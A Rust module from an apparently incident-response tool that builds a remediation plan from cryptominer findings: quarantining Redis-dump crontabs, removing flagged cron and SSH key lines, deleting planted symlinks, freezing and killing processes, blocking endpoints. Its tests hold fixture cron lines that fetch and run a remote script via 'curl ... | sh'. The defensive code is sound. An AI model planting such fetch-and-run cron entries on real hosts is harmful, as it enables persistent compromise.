//! From findings to a plan. Only findings at medium or above count (allowlisted ones are already at info);
//! by the detection contract every subject of such a finding is malicious. Each subject becomes the
//! narrowest action that undoes it — a line rather than a file, an entry rather than a key file — with
//! the identity the snapshot recorded, or a note for the responder when the snapshot cannot pin it down
//! safely. Shared system files are never removed whole, pid 1 and the collector are never signalled.
//!
//! - A file Redis wrote (RDB header) is the dump's from its first byte to its last: it is quarantined
//!   whole even under a shared file's name (a crontab, `authorized_keys`), and its lines are not edited.
//! - A symbolic link the attacker planted (`~/.bash_history -> /dev/null`) is removed while it is still
//!   the snapshot's link (same device, inode and target); links in system directories never are.
//! - Paths follow merged-`/usr` aliases to the record the snapshot holds (`/lib/x` is `/usr/lib/x`).
//! - A file in a system directory no package check covers is planned as a reinstall; the script removes
//!   it instead (after its evidence copy) when the host's package database says no package owns it.

use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

use minetrace_schemas::escape_bytes;
use minetrace_schemas::findings::{Finding, FindingsDocument, Role, Severity, Subject};
use minetrace_schemas::records::file::{FileKind, FileRecord};
use minetrace_schemas::records::package::PackageVerdict;
use minetrace_schemas::RawBytes;

use super::edit;
use super::firewall;
use super::plan::{
    Action, FileTarget, LineKind, LineRemoval, LinkTarget, Plan, PlanItem, ProcessTarget,
    Recommendation,
};
use super::roles::EvidenceClasses;
use crate::indicators::Indicators;
use crate::model::HostModel;
use crate::parse::authorized_keys::{self, AuthorizedKey};

/// Findings at this severity or above are acted on.
pub const ACT_AT: Severity = Severity::Medium;

fn why_of(f: &Finding) -> String {
    format!(
        "{} {}: {}",
        escape_bytes(f.rule.as_bytes()),
        f.severity.name(),
        escape_bytes(f.title.as_bytes())
    )
}

fn add_why(list: &mut Vec<String>, why: &str) {
    if !list.iter().any(|w| w == why) {
        list.push(why.to_owned());
    }
}

/// Whether a path is in a systemd unit directory: a flagged line there makes the whole unit the
/// attacker's (a unit without its `ExecStart=` is no one's).
fn in_unit_dir(path: &[u8]) -> bool {
    const DIRS: &[&[u8]] = &[
        b"/systemd/system/",
        b"/systemd/user/",
        b"/.config/systemd/user/",
    ];
    DIRS.iter().any(|d| path.windows(d.len()).any(|w| w == *d))
}

/// Systemd unit files and drop-ins: removed whole, with the unit stopped and disabled. `None` for a
/// name systemctl could not be given safely (then the file is only quarantined).
fn unit_name(path: &[u8]) -> Option<String> {
    if !in_unit_dir(path) {
        return None;
    }
    let name = path.rsplit(|b| *b == b'/').next()?;
    const SUFFIXES: &[&str] = &[
        ".service", ".timer", ".socket", ".path", ".mount", ".target",
    ];
    let name = std::str::from_utf8(name).ok()?;
    let ok = !name.starts_with('-')
        && name.len() <= 255
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b":_.@-\\".contains(&b))
        && SUFFIXES.iter().any(|s| name.ends_with(s));
    ok.then(|| name.to_owned())
}

/// Files that hold other people's lines: only flagged lines are ever removed from them.
fn is_shared_file(path: &[u8]) -> bool {
    const EXACT: &[&[u8]] = &[
        b"/etc/crontab",
        b"/etc/anacrontab",
        b"/etc/profile",
        b"/etc/bash.bashrc",
        b"/etc/bashrc",
        b"/etc/environment",
        b"/etc/ld.so.preload",
        b"/etc/ld.so.conf",
        b"/etc/rc.local",
        b"/etc/rc.d/rc.local",
        b"/etc/inittab",
        b"/etc/passwd",
        b"/etc/shadow",
        b"/etc/group",
        b"/etc/gshadow",
        b"/etc/sudoers",
        b"/etc/hosts",
        b"/etc/resolv.conf",
        b"/etc/fstab",
        b"/etc/ssh/sshd_config",
    ];
    const NAMES: &[&[u8]] = &[
        b"authorized_keys",
        b"authorized_keys2",
        b".bashrc",
        b".bash_profile",
        b".bash_login",
        b".bash_logout",
        b".profile",
        b".zshrc",
        b".zprofile",
        b".cshrc",
        b"known_hosts",
    ];
    let name = path.rsplit(|b| *b == b'/').next().unwrap_or_default();
    EXACT.contains(&path)
        || NAMES.contains(&name)
        || path.starts_with(b"/var/spool/cron/")
        || path.starts_with(b"/etc/passwd")
        || path.starts_with(b"/etc/shadow")
}

/// Where package-owned system files live: a flagged file here is reinstalled, never deleted.
fn in_system_dir(path: &[u8]) -> bool {
    const DIRS: &[&[u8]] = &[
        b"/bin/",
        b"/sbin/",
        b"/usr/bin/",
        b"/usr/sbin/",
        b"/lib/",
        b"/lib64/",
        b"/lib32/",
        b"/usr/lib/",
        b"/usr/lib64/",
        b"/usr/lib32/",
        b"/usr/libexec/",
        b"/usr/share/",
    ];
    DIRS.iter().any(|d| path.starts_with(d))
}

fn file_target(f: &FileRecord) -> Result<FileTarget, &'static str> {
    if f.kind != FileKind::Regular {
        return Err("not a regular file in the snapshot");
    }
    let sha256 = f.sha256.clone().ok_or("the snapshot has no hash for it")?;
    if !f.path.as_bytes().starts_with(b"/") || f.path.as_bytes().contains(&0) {
        return Err("not an absolute path");
    }
    Ok(FileTarget {
        path: f.path.clone(),
        dev: f.dev,
        ino: f.ino,
        sha256,
        size: f.size,
    })
}

/// A symbolic link the attacker planted, when it is safe to remove: an absolute path at least two levels
/// deep, outside the system directories (where links belong to packages and merged `/usr`), never a
/// shared file's name, with a target the snapshot read.
fn link_target(f: &FileRecord) -> Result<LinkTarget, &'static str> {
    let path = f.path.as_bytes();
    let target = f
        .link_target
        .as_ref()
        .filter(|t| !t.as_bytes().is_empty() && !t.as_bytes().contains(&0))
        .ok_or("a symbolic link whose target the snapshot did not read")?;
    if !path.starts_with(b"/") || path.contains(&0) {
        return Err("not an absolute path");
    }
    let depth = path.split(|b| *b == b'/').filter(|c| !c.is_empty()).count();
    if depth < 2 || in_system_dir(path) || path.starts_with(b"/usr/") {
        return Err("a symbolic link in a system directory is never removed");
    }
    if is_shared_file(path) {
        return Err("a symbolic link named like a shared file: review it by hand");
    }
    Ok(LinkTarget {
        path: f.path.clone(),
        dev: f.dev,
        ino: f.ino,
        target: target.clone(),
    })
}

/// A file Redis wrote (`CONFIG SET dir` + `dbfilename` + `SAVE`): it starts with an RDB header, so every
/// byte of it is the dump's and none is its owner's; it is quarantined whole even where the name is that
/// of a shared file (a crontab, `authorized_keys`).
fn is_redis_dump(model: &HostModel, f: &FileRecord) -> bool {
    model
        .content(f)
        .is_some_and(crate::parse::cron::is_redis_rdb)
}

/// What a whole file subject becomes.
enum FileFate {
    Unit(String),
    Quarantine,
    Reinstall(Option<String>),
}

/// Lines wanted in one file: by line number, the flagged key's fingerprint (for keys) and the reasons.
type WantedLines = BTreeMap<u32, (Option<String>, Vec<String>)>;

/// An iptables rule as `-C`/`-D` arguments, the address family it names, and the reasons.
type RuleEntry = (Vec<Vec<u8>>, Option<u8>, Vec<String>);

struct Collect {
    classes: EvidenceClasses,
    /// Evidence files to copy before anything is destroyed, by path: never modified or removed.
    evidence: BTreeMap<Vec<u8>, (FileTarget, Vec<String>)>,
    procs: BTreeMap<(i32, u64), (ProcessTarget, Vec<String>)>,
    /// Whole files by path.
    files: BTreeMap<Vec<u8>, (FileTarget, Vec<String>, FileFate)>,
    /// Symbolic links to remove, by path.
    links: BTreeMap<Vec<u8>, (LinkTarget, Vec<String>)>,
    /// Shared files named whole by a finding, by path, with their label for the responder.
    shared: BTreeMap<Vec<u8>, String>,
    /// Lines to remove, by path then line number.
    lines: BTreeMap<Vec<u8>, WantedLines>,
    endpoints: BTreeMap<(IpAddr, u16), Vec<String>>,
    rules: BTreeMap<Vec<u8>, RuleEntry>,
    accounts: BTreeMap<Vec<u8>, (Option<u32>, Vec<String>)>,
    manual: BTreeSet<String>,
    rebuild_why: BTreeSet<String>,
}

impl Collect {
    fn new(model: &HostModel, iocs: &Indicators) -> Collect {
        Collect {
            classes: EvidenceClasses::new(model, iocs),
            evidence: BTreeMap::new(),
            procs: BTreeMap::new(),
            files: BTreeMap::new(),
            links: BTreeMap::new(),
            shared: BTreeMap::new(),
            lines: BTreeMap::new(),
            endpoints: BTreeMap::new(),
            rules: BTreeMap::new(),
            accounts: BTreeMap::new(),
            manual: BTreeSet::new(),
            rebuild_why: BTreeSet::new(),
        }
    }

    /// A subject whose detector declared it evidence, or a file of an evidence class whatever it was
    /// declared: its regular file is copied to the quarantine (when the plan destroys anything at all)
    /// and never modified or removed.
    fn evidence(&mut self, model: &HostModel, s: &Subject, why: &str) {
        let path = match s {
            Subject::File { path, .. }
            | Subject::Persistence { path, .. }
            | Subject::SshKey { path, .. } => path,
            _ => return,
        };
        let Some(rec) = model.file_aliased(path.as_bytes()) else {
            return;
        };
        if let Ok(t) = file_target(rec) {
            let entry = self
                .evidence
                .entry(t.path.0.clone())
                .or_insert_with(|| (t, Vec::new()));
            add_why(&mut entry.1, why);
        }
    }

    /// The evidence class of a subject's file, when it has one (looked up under the name the snapshot
    /// recorded, merged-`/usr` aliases followed).
    fn evidence_class_of(&self, model: &HostModel, s: &Subject) -> Option<String> {
        let path = match s {
            Subject::File { path, .. }
            | Subject::Persistence { path, .. }
            | Subject::SshKey { path, .. } => path,
            _ => return None,
        };
        let rec = model.file_aliased(path.as_bytes());
        let recorded = rec.map_or(path.as_bytes(), |r| r.path.as_bytes());
        let sha = rec.and_then(|r| r.sha256.as_deref());
        self.classes
            .class_of(recorded, sha)
            .or_else(|| self.classes.class_of(path.as_bytes(), sha))
            .map(|c| c.describe())
    }

    /// A subject by its role: artifacts are acted on, evidence preserved, context left alone. A file of an
    /// evidence class is evidence whatever its detector declared; a symbolic link the attacker put at such
    /// a path (`~/.bash_history -> /dev/null`) holds no evidence and is removed, so the history works again.
    fn subject_with_role(&mut self, model: &HostModel, s: &Subject, role: Role, why: &str) {
        let class = self.evidence_class_of(model, s);
        match (role, class) {
            (Role::Context, _) => {}
            (Role::Evidence, _) => self.evidence(model, s, why),
            (Role::Artifact, None) => self.subject(model, s, why),
            (Role::Artifact, Some(class)) => {
                if let Subject::File { path, .. } = s {
                    if model
                        .file_aliased(path.as_bytes())
                        .is_some_and(|f| f.kind == FileKind::Symlink)
                    {
                        return self.whole_file(model, path, why);
                    }
                }
                self.evidence(model, s, why);
                let what = match s {
                    Subject::File { path, .. } => format!("file {}", path.escaped()),
                    Subject::Persistence { path, line } | Subject::SshKey { path, line, .. } => {
                        format!("line {line} of {}", path.escaped())
                    }
                    _ => return,
                };
                self.manual(
                    what,
                    &format!("{class} is evidence: preserved, never modified or removed"),
                );
            }
        }
    }

    fn manual(&mut self, what: String, reason: &str) {
        self.manual.insert(format!("{what}: {reason}"));
    }

    fn process(
        &mut self,
        model: &HostModel,
        pid: i32,
        start_ticks: u64,
        exe: Option<&RawBytes>,
        why: &str,
    ) {
        let label = format!("process {pid}");
        if pid <= 1 || model.host.collector_pids.contains(&pid) {
            return self.manual(label, "pid 1 and the collector are never signalled");
        }
        let rec = model.process(pid).filter(|p| p.start_ticks == start_ticks);
        if let Some(p) = rec {
            if p.exe.is_none() && p.ppid == 2 {
                return self.manual(label, "a kernel thread; a rebuild is the remedy");
            }
        }
        let exe_sha256 = rec
            .and_then(|p| model.executable_of(p))
            .and_then(|e| e.sha256.clone());
        let target = ProcessTarget {
            pid,
            start_ticks,
            exe_sha256,
            exe_path: exe
                .cloned()
                .or_else(|| rec.and_then(|p| p.exe.as_ref().map(|e| e.path.clone()))),
            comm: rec.map(|p| p.comm.clone()).unwrap_or_default(),
        };
        let entry = self
            .procs
            .entry((pid, start_ticks))
            .or_insert_with(|| (target, Vec::new()));
        add_why(&mut entry.1, why);
    }

    fn whole_file(&mut self, model: &HostModel, path: &RawBytes, why: &str) {
        let label = format!("file {}", path.escaped());
        let mut dump = false;
        let target = match model.file_aliased(path.as_bytes()) {
            Some(f) if f.kind == FileKind::Symlink => {
                return match link_target(f) {
                    Ok(t) => {
                        let entry = self
                            .links
                            .entry(t.path.0.clone())
                            .or_insert_with(|| (t, Vec::new()));
                        add_why(&mut entry.1, why);
                    }
                    Err(reason) => self.manual(label, reason),
                };
            }
            Some(f) => match file_target(f) {
                Ok(t) => {
                    dump = is_redis_dump(model, f);
                    t
                }
                Err(reason) => return self.manual(label, reason),
            },
            None => {
                let exe = model.executables.iter().find(|e| e.path == *path);
                match exe {
                    Some(e) if e.deleted || e.memfd => return self.manual(
                        label,
                        "deleted or memory-only: nothing on disk (its process image is preserved)",
                    ),
                    Some(e) => match &e.sha256 {
                        Some(h) if path.as_bytes().starts_with(b"/") => FileTarget {
                            path: path.clone(),
                            dev: e.file.dev,
                            ino: e.file.ino,
                            sha256: h.clone(),
                            size: e.size,
                        },
                        _ => return self.manual(label, "the snapshot has no hash for it"),
                    },
                    None => {
                        return self.manual(
                            label,
                            "not in the snapshot's file records (no identity to check)",
                        )
                    }
                }
            }
        };
        // Decided on the name the snapshot recorded (merged-/usr aliases followed).
        let recorded = target.path.clone();
        let fate = if let Some(unit) = unit_name(recorded.as_bytes()) {
            FileFate::Unit(unit)
        } else if dump {
            FileFate::Quarantine
        } else if is_shared_file(recorded.as_bytes()) {
            // Said only when no flagged line of it is removed either (see `build`).
            self.shared.insert(recorded.0.clone(), label);
            return;
        } else {
            let pkg = model.package_check(recorded.as_bytes());
            match pkg.map(|p| (p.verdict, p.package.clone())) {
                Some((PackageVerdict::Mismatch, name)) => FileFate::Reinstall(name),
                Some((PackageVerdict::Match, _)) => {
                    return self
                        .manual(label, "identical to its package's copy; review the finding")
                }
                Some((PackageVerdict::NoDigest, name)) if in_system_dir(recorded.as_bytes()) => {
                    FileFate::Reinstall(name)
                }
                Some((PackageVerdict::NotOwned, _)) => FileFate::Quarantine,
                _ if in_system_dir(recorded.as_bytes()) => FileFate::Reinstall(None),
                _ => FileFate::Quarantine,
            }
        };
        let entry = self
            .files
            .entry(target.path.0.clone())
            .or_insert_with(|| (target, Vec::new(), fate));
        add_why(&mut entry.1, why);
    }

    fn line(&mut self, path: &RawBytes, number: u32, key: Option<String>, why: &str) {
        let entry = self
            .lines
            .entry(path.0.clone())
            .or_default()
            .entry(number)
            .or_insert_with(|| (key, Vec::new()));
        add_why(&mut entry.1, why);
    }

    fn subject(&mut self, model: &HostModel, s: &Subject, why: &str) {
        match s {
            Subject::Process {
                pid,
                start_ticks,
                exe,
            } => self.process(model, *pid, *start_ticks, exe.as_ref(), why),
            Subject::File { path, .. } => self.whole_file(model, path, why),
            Subject::Persistence { path, line } => {
                if *line == 0 || in_unit_dir(path.as_bytes()) {
                    self.whole_file(model, path, why)
                } else {
                    self.line(path, *line, None, why)
                }
            }
            Subject::SshKey {
                fingerprint,
                path,
                line,
            } => self.line(path, *line, Some(fingerprint.clone()), why),
            Subject::Endpoint { addr } => match firewall::endpoint(addr) {
                Some(ep) => add_why(self.endpoints.entry(ep).or_default(), why),
                None => self.manual(
                    format!("endpoint {}", escape_bytes(addr.as_bytes())),
                    "not an address and port traffic can be blocked to",
                ),
            },
            Subject::FirewallRule { rule } => match firewall::rule_args(rule.as_bytes()) {
                Ok(args) => {
                    let fam = firewall::family(&args);
                    let entry = self
                        .rules
                        .entry(rule.0.clone())
                        .or_insert_with(|| (args, fam, Vec::new()));
                    add_why(&mut entry.2, why);
                }
                Err(reason) => self.manual(format!("firewall rule {}", rule.escaped()), reason),
            },
            Subject::Account { name, uid } => {
                let n = name.as_bytes();
                let sane = !n.is_empty()
                    && n.len() <= 64
                    && !n.starts_with(b"-")
                    && n.iter().all(|b| b.is_ascii_graphic() && *b != b':');
                if !sane {
                    self.manual(
                        format!("account {}", name.escaped()),
                        "unusual name; lock it by hand",
                    )
                } else if n == b"root" {
                    self.manual(
                        "account root".into(),
                        "never locked; set a new password instead",
                    )
                } else {
                    let entry = self
                        .accounts
                        .entry(n.to_vec())
                        .or_insert_with(|| (*uid, Vec::new()));
                    add_why(&mut entry.1, why);
                }
            }
            Subject::KernelModule { name } => {
                self.rebuild_why
                    .insert(format!("kernel module {}", escape_bytes(name.as_bytes())));
            }
        }
    }
}

/// Lines of one file, resolved against the snapshot's copy: the file, its hash once they are removed,
/// the removals, and whether nothing but blank space would be left. Or why it cannot be done.
fn line_action(
    model: &HostModel,
    path: &[u8],
    wanted: &WantedLines,
) -> Result<(FileTarget, String, Vec<LineRemoval>, bool), &'static str> {
    let rec = model
        .file(path)
        .ok_or("not in the snapshot's file records")?;
    let target = file_target(rec)?;
    let content = model
        .content(rec)
        .ok_or("its content is not in the bundle")?;
    if rec.truncated || edit::sha256(content) != target.sha256 {
        return Err("the bundle's copy is partial or does not match its hash");
    }
    let spans = edit::line_spans(content);
    let mut removals: BTreeMap<usize, LineRemoval> = BTreeMap::new();
    for (&number, (fingerprint, why)) in wanted {
        // A key is matched by its blob on every line, so duplicates go too; a plain line by its number.
        let picked: Vec<(usize, edit::LineSpan, Option<AuthorizedKey>)> = match fingerprint {
            Some(fp) => spans
                .iter()
                .enumerate()
                .filter_map(|(i, s)| {
                    let raw = content.get(s.start..s.end)?;
                    let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
                    let key = authorized_keys::parse_line(u32::try_from(i + 1).ok()?, raw)?;
                    (key.fingerprint == *fp).then_some((i, *s, Some(key)))
                })
                .collect(),
            None => {
                let i = usize::try_from(number)
                    .ok()
                    .and_then(|n| n.checked_sub(1))
                    .ok_or("line 0")?;
                let s = spans.get(i).ok_or("line number past the end of the file")?;
                vec![(i, *s, None)]
            }
        };
        if picked.is_empty() {
            return Err("no line holds the flagged key");
        }
        for (i, span, key) in picked {
            let bytes = content
                .get(span.start..span.end)
                .ok_or("line out of range")?;
            if bytes.contains(&0) {
                return Err("the line holds a NUL byte");
            }
            if bytes.iter().all(|b| b.is_ascii_whitespace()) {
                return Err("the flagged line is blank");
            }
            let kind = match key {
                Some(k) => {
                    if k.base64.is_empty()
                        || !k
                            .base64
                            .iter()
                            .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(b))
                    {
                        return Err("the key's base64 text is unusual");
                    }
                    LineKind::SshKey {
                        key_type: k.key_type,
                        blob: String::from_utf8_lossy(&k.base64).into_owned(),
                        fingerprint: k.fingerprint,
                    }
                }
                None => LineKind::Line,
            };
            let entry = removals.entry(i).or_insert_with(|| LineRemoval {
                number: u32::try_from(i + 1).unwrap_or(u32::MAX),
                offset: span.start as u64,
                len: (span.next - span.start) as u64,
                bytes: RawBytes::from(bytes),
                kind,
                why: Vec::new(),
            });
            for w in why {
                add_why(&mut entry.why, w);
            }
        }
    }
    let ranges: Vec<(usize, usize)> = removals
        .values()
        .filter_map(|r| {
            Some((
                usize::try_from(r.offset).ok()?,
                usize::try_from(r.len).ok()?,
            ))
        })
        .collect();
    let after = edit::without_ranges(content, &ranges).ok_or("overlapping lines")?;
    Ok((
        target,
        edit::sha256(&after),
        removals.into_values().collect(),
        after.iter().all(u8::is_ascii_whitespace),
    ))
}

/// Builds the plan for one analysis.
pub fn build(model: &HostModel, iocs: &Indicators, doc: &FindingsDocument) -> Plan {
    let mut c = Collect::new(model, iocs);
    let acted: Vec<&Finding> = doc
        .findings
        .iter()
        .filter(|f| f.severity >= ACT_AT)
        .collect();
    for f in &acted {
        let why = why_of(f);
        for s in &f.subjects {
            c.subject_with_role(model, &s.subject, s.role, &why);
        }
    }

    // Resolve line removals; a file removed whole needs no line surgery.
    let mut edits = Vec::new();
    for (path, wanted) in std::mem::take(&mut c.lines) {
        if c.files.contains_key(&path) {
            continue;
        }
        match line_action(model, &path, &wanted) {
            // Every line that is not blank is flagged: the file is the attacker's, not shared.
            Ok((target, _, lines, true)) if !is_shared_file(&path) => {
                let why: Vec<String> = lines.iter().flat_map(|l| l.why.clone()).collect();
                c.whole_file(model, &target.path, why.first().map_or("", String::as_str));
                if let Some(entry) = c.files.get_mut(&path) {
                    for w in &why {
                        add_why(&mut entry.1, w);
                    }
                }
            }
            Ok((target, after, lines, _)) => edits.push((target, after, lines)),
            Err(reason) => {
                let numbers: Vec<String> = wanted.keys().map(u32::to_string).collect();
                c.manual(
                    format!("lines {} of {}", numbers.join(","), escape_bytes(&path)),
                    reason,
                );
            }
        }
    }
    // A shared file a finding names whole, with no flagged line removed from it: left to the responder.
    for (path, label) in std::mem::take(&mut c.shared) {
        if !edits
            .iter()
            .any(|(t, _, _)| t.path.as_bytes() == path.as_slice())
        {
            c.manual(
                label,
                "a shared file is never removed whole (flagged lines in it are removed one by one)",
            );
        }
    }

    let mut items: Vec<PlanItem> = Vec::new();
    let mut push = |action: Action, why: Vec<String>| {
        items.push(PlanItem { action, why });
        items.len()
    };

    // Preserve.
    for (target, why) in c.procs.values() {
        push(Action::PreserveProcess(target.clone()), why.clone());
    }
    let mut preserved: BTreeMap<Vec<u8>, usize> = BTreeMap::new();
    let mut preserve = |push: &mut dyn FnMut(Action, Vec<String>) -> usize,
                        t: &FileTarget,
                        why: &[String]|
     -> usize {
        *preserved
            .entry(t.path.0.clone())
            .or_insert_with(|| push(Action::PreserveFile(t.clone()), why.to_vec()))
    };
    // Evidence is copied too, before anything is destroyed; a plan that destroys nothing copies nothing.
    let destroys = !c.procs.is_empty()
        || !edits.is_empty()
        || !c.files.is_empty()
        || !c.links.is_empty()
        || !c.rules.is_empty()
        || !c.endpoints.is_empty()
        || !c.accounts.is_empty();
    if destroys {
        for (target, why) in c.evidence.values() {
            preserve(&mut push, target, why);
        }
    }
    let mut edit_items = Vec::new();
    for (target, after, lines) in edits {
        let why: Vec<String> =
            lines
                .iter()
                .flat_map(|l| l.why.iter().cloned())
                .fold(Vec::new(), |mut acc, w| {
                    add_why(&mut acc, &w);
                    acc
                });
        let n = preserve(&mut push, &target, &why);
        edit_items.push((
            Action::RemoveLines {
                file: target,
                after_sha256: after,
                lines,
                preserved: n,
            },
            why,
        ));
    }
    let mut unit_items = Vec::new();
    let mut file_items = Vec::new();
    let mut repair_items = Vec::new();
    for (target, why, fate) in c.files.values() {
        let n = preserve(&mut push, target, why);
        match fate {
            FileFate::Unit(unit) => unit_items.push((
                Action::RemoveUnit {
                    unit: unit.clone(),
                    file: target.clone(),
                    preserved: n,
                },
                why.clone(),
            )),
            FileFate::Quarantine => file_items.push((
                Action::QuarantineFile {
                    file: target.clone(),
                    preserved: n,
                },
                why.clone(),
            )),
            FileFate::Reinstall(pkg) => repair_items.push((
                Action::Reinstall {
                    file: target.clone(),
                    package: pkg.clone(),
                    manager: model.package_manager(),
                    preserved: n,
                },
                why.clone(),
            )),
        }
    }

    // Freeze, remove persistence while frozen, kill.
    for (target, why) in c.procs.values() {
        push(Action::Freeze(target.clone()), why.clone());
    }
    // The loader's preload list first: every tool the script runs afterwards loads what it names.
    let preload_first = edit_items.iter().position(|(a, _)| {
        matches!(a, Action::RemoveLines { file, .. } if file.path.as_bytes() == b"/etc/ld.so.preload")
    });
    let mut persistence: Vec<(Action, Vec<String>)> = Vec::new();
    if let Some(i) = preload_first {
        persistence.push(edit_items.remove(i));
    }
    persistence.extend(unit_items);
    persistence.extend(edit_items);
    persistence.extend(file_items);
    for (target, why) in c.links.values() {
        persistence.push((Action::RemoveLink(target.clone()), why.clone()));
    }
    for (a, why) in persistence {
        push(a, why);
    }
    for (target, why) in c.procs.values() {
        push(Action::Kill(target.clone()), why.clone());
    }

    // Contain: the attacker's rules go, then the pools are blocked.
    for (rule, (args, family, why)) in &c.rules {
        push(
            Action::DeleteFirewallRule {
                rule: RawBytes::from(rule.clone()),
                args: args.iter().cloned().map(RawBytes::from).collect(),
                family: *family,
            },
            why.clone(),
        );
    }
    for ((ip, port), why) in &c.endpoints {
        push(
            Action::BlockEndpoint {
                ip: *ip,
                port: *port,
            },
            why.clone(),
        );
    }

    // Repair.
    for (a, why) in repair_items {
        push(a, why);
    }
    for (name, (uid, why)) in &c.accounts {
        push(
            Action::LockAccount {
                name: RawBytes::from(name.clone()),
                uid: *uid,
            },
            why.clone(),
        );
    }
    let acting = push(Action::Verify, Vec::new()) > 1;

    let mut recommendations = Vec::new();
    if !model.host.hidden_pids.is_empty() {
        c.rebuild_why
            .insert(format!("{} hidden pids", model.host.hidden_pids.len()));
    }
    if !model.host.proc_bind_mounts.is_empty() {
        c.rebuild_why.insert("bind mounts over /proc/PID".into());
    }
    if items.iter().any(|i| matches!(&i.action, Action::RemoveLines { file, .. } if file.path.as_bytes() == b"/etc/ld.so.preload"))
    {
        c.rebuild_why.insert("an /etc/ld.so.preload entry".into());
    }
    if doc.tampered {
        recommendations.push(Recommendation {
            text:
                "treat this plan with care: the bundle failed verification and was analysed anyway"
                    .into(),
            why: "tampered bundle".into(),
        });
    }
    if !c.rebuild_why.is_empty() {
        recommendations.push(Recommendation {
            text: "rebuild this host from known-good media: a rootkit can hide what this script checks, and cleaning in place cannot be trusted".into(),
            why: c.rebuild_why.iter().cloned().collect::<Vec<_>>().join(", "),
        });
    }
    if acting || !acted.is_empty() {
        recommendations.push(Recommendation {
            text: "rotate every credential this host held or saw: account passwords, SSH keys and authorized_keys of every account, API tokens, cloud keys".into(),
            why: format!("{} finding(s) at medium or above", acted.len()),
        });
        recommendations.push(Recommendation {
            text: "run this script with --verify again after 1 to 4 hours (by hand, not from cron), then collect and analyse again: what the snapshot did not see is not in this plan".into(),
            why: "miners come back through droppers and credentials the snapshot did not show".into(),
        });
        recommendations.push(Recommendation {
            text: "reboot only after --verify passes and any memory evidence you need is saved; verify again after the reboot".into(),
            why: "a reboot destroys running state".into(),
        });
    }

    Plan {
        host: doc.host.clone(),
        bundle_sha256: doc.bundle_sha256.clone(),
        collected_at: model.manifest.ended_at.clone(),
        analyzer_version: doc.analyzer_version.clone(),
        items,
        recommendations,
        manual: c.manual.into_iter().collect(),
        findings_used: acted.len(),
        worst: acted.iter().map(|f| f.severity).max(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::finding::{file_subject, finding, persistence_subject, FindingExt};
    use crate::model::fixture;
    use minetrace_schemas::findings::Verdict;

    fn doc(findings: Vec<Finding>) -> FindingsDocument {
        FindingsDocument {
            schema: "minetrace.findings/1".into(),
            verdict: Verdict::Compromised,
            tampered: false,
            bundle_sha256: String::new(),
            host: Default::default(),
            analyzer_version: "test".into(),
            findings,
        }
    }

    /// The paths the plan quarantines, in plan order.
    fn quarantined(plan: &Plan) -> Vec<&[u8]> {
        plan.items
            .iter()
            .filter_map(|i| match &i.action {
                Action::QuarantineFile { file, .. } => Some(file.path.as_bytes()),
                _ => None,
            })
            .collect()
    }

    const RDB_CRONTAB: &[u8] =
        b"REDIS0009\xfa\x09redis-ver\x056.0.16\xfe\x00\n\n*/1 * * * * curl -fsSL http://127.66.3.1/cr.sh | sh\n\n\xff";

    #[test]
    fn redis_dumps_are_quarantined_whole_other_shared_files_lose_lines() {
        let model = fixture::model(
            vec![
                fixture::file(b"/var/spool/cron/crontabs/root", Some(RDB_CRONTAB)),
                fixture::file(b"/etc/ld.so.preload", Some(b"/usr/lib/libjemalloc.so\n")),
                fixture::file(
                    b"/var/spool/cron/crontabs/ops",
                    Some(b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl http://x/y | sh\n"),
                ),
            ],
            vec![],
        );
        let rdb = model
            .file(b"/var/spool/cron/crontabs/root")
            .expect("record")
            .clone();
        let ops = model
            .file(b"/var/spool/cron/crontabs/ops")
            .expect("record")
            .clone();
        let findings = vec![
            finding(&crate::detect::rules::PER_002, Severity::Critical)
                .subject(file_subject(&rdb))
                .subject(persistence_subject(&rdb.path, 4)),
            finding(&crate::detect::rules::PER_001, Severity::High)
                .subject(file_subject(&ops))
                .subject(persistence_subject(&ops.path, 2)),
            finding(&crate::detect::rules::EVA_001, Severity::Medium).subject(file_subject(
                model.file(b"/etc/ld.so.preload").expect("record"),
            )),
        ];
        let plan = build(&model, &Indicators::builtin(), &doc(findings));
        let quarantined = quarantined(&plan);
        assert_eq!(quarantined, vec![&b"/var/spool/cron/crontabs/root"[..]]);
        let edited: Vec<(&[u8], Vec<u32>)> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::RemoveLines { file, lines, .. } => Some((
                    file.path.as_bytes(),
                    lines.iter().map(|l| l.number).collect(),
                )),
                _ => None,
            })
            .collect();
        assert_eq!(
            edited,
            vec![(&b"/var/spool/cron/crontabs/ops"[..], vec![2])]
        );
        // Its lines are removed: no note asks the responder to deal with the whole file; a shared file
        // named whole with no line flagged is left to the responder.
        assert!(
            !plan.manual.iter().any(|m| m.contains("crontabs/ops")),
            "{:?}",
            plan.manual
        );
        assert!(
            plan.manual
                .iter()
                .any(|m| m.contains("/etc/ld.so.preload") && m.contains("shared file")),
            "{:?}",
            plan.manual
        );
    }

    #[test]
    fn attacker_symlinks_are_removed_system_links_and_evidence_links_never() {
        let model = fixture::model(
            vec![
                fixture::symlink(b"/tmp/.x/cron", b"/var/tmp/.k/run"),
                fixture::symlink(b"/root/.bash_history", b"/dev/null"),
                fixture::symlink(b"/bin", b"usr/bin"),
                fixture::symlink(b"/usr/lib/x/y", b"/dev/null"),
                fixture::symlink(b"/home/a/.ssh/authorized_keys", b"/dev/null"),
            ],
            vec![],
        );
        let subjects = [
            &b"/tmp/.x/cron"[..],
            b"/root/.bash_history",
            b"/bin",
            b"/usr/lib/x/y",
            b"/home/a/.ssh/authorized_keys",
        ];
        let mut f = finding(&crate::detect::rules::EVA_010, Severity::High);
        for p in subjects {
            f = f.subject(file_subject(model.file(p).expect("record")));
        }
        let plan = build(&model, &Indicators::builtin(), &doc(vec![f]));
        let links: Vec<&LinkTarget> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::RemoveLink(l) => Some(l),
                _ => None,
            })
            .collect();
        let links: Vec<(&[u8], &[u8])> = links
            .iter()
            .map(|l| (l.path.as_bytes(), l.target.as_bytes()))
            .collect();
        assert_eq!(
            links,
            vec![
                (&b"/root/.bash_history"[..], &b"/dev/null"[..]),
                (b"/tmp/.x/cron", b"/var/tmp/.k/run")
            ],
            "{:?}",
            plan.items
        );
        assert_eq!(plan.manual.len(), 3, "{:?}", plan.manual);
    }
